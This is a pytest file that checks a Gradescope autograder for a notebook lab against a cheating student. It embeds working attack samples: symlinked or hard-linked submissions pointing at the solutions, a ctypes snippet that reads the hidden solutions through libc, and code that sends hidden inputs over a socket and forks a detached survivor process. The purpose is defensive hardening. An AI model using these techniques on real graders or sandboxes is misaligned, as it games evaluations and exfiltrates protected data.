"""Gradescope's runner against a determined student, in either isolation mode.

From two red-team runs:
- a submission that is a symbolic link to ``../source/solutions/toy_bpe.ipynb`` (a zip upload can
  carry one) scored 11/11, every part "all checks passed", for a hand-in with no code;
- forced to the fence (``AUTOGRADER_ISOLATION=fence``), a notebook that read the solutions through
  ctypes found the hidden tests and the solutions, and scored 11/11.
Now the runner grades only a regular file of its own inside ``submission/``, read without following
a link, and closes the Gradescope root to every other user, while the kernel runs under a uid of
its own in either mode (Gradescope runs the autograder as root).
"""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
import textwrap
from pathlib import Path

import jsonschema
import nbformat
import pytest

from adversarial import cell_of, dump, living_named
from autograder.labs import get_lab
from bpe_labs import ROOT as REPO_ROOT
from test_gradescope import RESULTS_SCHEMA, SUBMISSIONS, run_autograder, unpack, zips  # noqa: F401 (zips: a fixture)

ANSWERS = [
    "initialize_solution",
    "pair_frequencies_solution",
    "merge_solution",
    "learn_solution",
    "tokenize_solution",
]


def results_of(root: Path) -> dict:
    results = json.loads((root / "results" / "results.json").read_text(encoding="utf-8"))
    jsonschema.validate(results, RESULTS_SCHEMA)
    return results


@pytest.mark.parametrize("how", ["symlink", "symlinked-folder", "hard-link"])
def test_a_submission_that_links_to_the_solutions_earns_nothing(zips, tmp_path, how):  # noqa: F811
    root = unpack(zips["toy_bpe"], tmp_path / "autograder")
    solutions = root / "source" / "solutions"
    if how == "symlink":
        (root / "submission" / "toy_bpe.ipynb").symlink_to(
            Path("..") / "source" / "solutions" / "toy_bpe.ipynb"
        )
    elif how == "symlinked-folder":
        (root / "submission" / "lab1").symlink_to(
            Path("..") / "source" / "solutions", target_is_directory=True
        )
    else:
        os.link(solutions / "toy_bpe.ipynb", root / "submission" / "toy_bpe.ipynb")
    run = run_autograder(root)
    results = results_of(root)
    assert run.returncode == 0 and results["score"] == 0, (results["score"], results["output"])
    assert "all checks passed" not in json.dumps(results)
    assert ("link" in results["output"] or "No notebook" in results["output"]), results["output"]


# -- reading the solutions through libc, in either mode -------------------------------------------

STEAL = textwrap.dedent('''
    import ctypes, json
    _libc = ctypes.CDLL(None, use_errno=True)

    def _read(path):
        fd = _libc.open(path.encode(), 0)
        if fd < 0:
            return None
        chunks, buffer = [], ctypes.create_string_buffer(1 << 16)
        while True:
            got = _libc.read(fd, buffer, 1 << 16)
            if got <= 0:
                break
            chunks.append(buffer.raw[:got])
        _libc.close(fd)
        return b"".join(chunks)

    _text = _read({path!r})
    _STOLEN = {{}}
    if _text:
        for _cell in json.loads(_text)["cells"]:
            _id = _cell.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id")
            if _id:
                _STOLEN[_id] = "".join(_cell["source"])
    print("read the solutions through libc:", bool(_text))
''')


def stealing_notebook(solutions: Path) -> bytes:
    """The released notebook, every answer replaced by the solution's, read through libc."""
    nb = nbformat.read(REPO_ROOT / "notebooks" / "toy_bpe.ipynb", as_version=4)
    for cell_id in ANSWERS:
        answer = f"exec(_STOLEN.get({cell_id!r}, 'raise NotImplementedError()'))"
        cell_of(nb, cell_id).source = answer
    cell_of(nb, ANSWERS[0]).source = (
        STEAL.format(path=str(solutions)) + "\n" + cell_of(nb, ANSWERS[0]).source
    )
    return dump(nb)


def python_open_to_others() -> Path | None:
    """A virtual environment whose Python every user can run, with this environment's packages (a
    .pth file names them): what a kernel under a uid of its own needs. Gradescope's image has one
    (Ubuntu's python3, the venv in /opt); this machine's own Python may lie in a private folder."""
    candidate = Path(f"/usr/bin/python{sys.version_info.major}.{sys.version_info.minor}")
    if not candidate.exists():
        return None
    venv = Path(tempfile.mkdtemp(prefix="gs-venv-", dir="/tmp"))
    subprocess.run([str(candidate), "-m", "venv", "--without-pip", str(venv)], check=True)
    site = next((venv / "lib").glob("python*/site-packages"))
    import sysconfig

    (site / "full.pth").write_text(sysconfig.get_paths()["purelib"] + "\n")
    for path in [venv, *venv.rglob("*")]:
        if not path.is_symlink():
            path.chmod(0o755 if path.is_dir() else 0o644)
    return venv


@pytest.fixture(scope="module")
def open_venv():
    venv = python_open_to_others()
    yield venv
    if venv is not None:
        shutil.rmtree(venv, ignore_errors=True)


@pytest.mark.parametrize("isolation", ["boundary", "fence"])
def test_reading_the_solutions_through_libc_earns_nothing_in_either_mode(
    isolation, zips, tmp_path, open_venv  # noqa: F811 (zips: the fixture imported above)
):
    if os.geteuid() != 0:
        pytest.skip("Gradescope runs the autograder as root; a uid of the kernel's own needs root")
    if isolation == "fence" and open_venv is None:
        pytest.skip("no Python here that a kernel under a uid of its own could run")
    root = unpack(zips["toy_bpe"], tmp_path / "autograder")
    solutions = root / "source" / "solutions" / "toy_bpe.ipynb"
    (root / "submission" / "toy_bpe.ipynb").write_bytes(stealing_notebook(solutions))
    extra = {"AUTOGRADER_ISOLATION": "fence"} if isolation == "fence" else {}
    run = run_autograder(
        root, venv=open_venv if isolation == "fence" else Path(sys.prefix), **extra
    )
    results = results_of(root)
    assert run.returncode == 0, run.stdout[-3000:]
    isolation_line = next(line for line in run.stdout.splitlines() if "kernel isolation:" in line)
    assert (
        ("fence+seccomp+uid" in isolation_line)
        if isolation == "fence"
        else ("landlock" in isolation_line)
    ), isolation_line
    assert results["score"] == 0, (results["score"], run.stdout[-2000:])
    assert [test["score"] for test in results["tests"]] == [0] * len(get_lab("toy_bpe").parts)


# -- the network and a process that leaves the kernel's session, in either mode --------------------
LEAK_AND_STAY = textwrap.dedent('''
    import ctypes, socket
    def _leak(*args):
        try:
            with socket.create_connection(("127.0.0.1", {port}), timeout=2) as _s:
                _s.sendall(repr(args).encode())
        except OSError:
            pass
    _leak("the kernel reached the network")
    _libc = ctypes.CDLL(None)
    if _libc.fork() == 0:  # a child that leaves the kernel's session and outlives the grading
        _libc.setsid()
        _libc.prctl(15, b"bpe-gs-survivor", 0, 0, 0)
        _libc.sleep(600)
        _libc._exit(0)
''')


def leaking_notebook(port: int) -> bytes:
    """A correct notebook whose every answer first sends its arguments to 127.0.0.1:port."""
    from adversarial import correct_notebook

    nb = correct_notebook()
    first = cell_of(nb, ANSWERS[0])
    first.source = LEAK_AND_STAY.format(port=port) + "\n" + first.source
    return dump(nb)


def gradescope_survivors() -> set[str]:
    return living_named("bpe-gs-survivor")


@pytest.mark.parametrize("isolation", ["boundary", "fence"])
def test_no_call_leaves_the_kernel_and_no_child_outlives_the_grading(
    isolation, zips, tmp_path, open_venv  # noqa: F811 (zips: the fixture imported above)
):
    """From a red-team run in the fence: a correct notebook sent 133 calls' arguments (the hidden
    inputs among them) to 127.0.0.1 and scored 11/11, and a child started with libc fork() and
    setsid() was still running 91 s after results.json was written."""
    if os.geteuid() != 0:
        pytest.skip("Gradescope runs the autograder as root")
    if isolation == "fence" and open_venv is None:
        pytest.skip("no Python here that a kernel under a uid of its own could run")
    import socket
    import threading

    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(64)
    server.settimeout(0.2)
    reached: list[bytes] = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(1)
                try:
                    reached.append(connection.recv(65536))
                except OSError:
                    reached.append(b"")

    listener = threading.Thread(target=accept, daemon=True)
    listener.start()
    before = gradescope_survivors()
    try:
        root = unpack(zips["toy_bpe"], tmp_path / "autograder")
        (root / "submission" / "toy_bpe.ipynb").write_bytes(
            leaking_notebook(server.getsockname()[1])
        )
        extra = {"AUTOGRADER_ISOLATION": "fence"} if isolation == "fence" else {}
        run = run_autograder(
            root, venv=open_venv if isolation == "fence" else Path(sys.prefix), **extra
        )
        results = results_of(root)
        left = gradescope_survivors() - before
    finally:
        stop.set()
        listener.join(timeout=2)
        server.close()
        for pid in gradescope_survivors() - before:  # never leave one behind, even when failing
            subprocess.run(["kill", "-9", pid], check=False)
    assert reached == [], f"{len(reached)} calls left the kernel"
    assert not left, f"a child of the kernel outlived the grading: {left}"
    assert results["score"] == 11, (results["score"], run.stdout[-2000:])  # the answers are right
    isolation_line = next(line for line in run.stdout.splitlines() if "kernel isolation:" in line)
    assert (
        ("fence+seccomp+uid" in isolation_line)
        if isolation == "fence"
        else ("landlock" in isolation_line)
    ), isolation_line
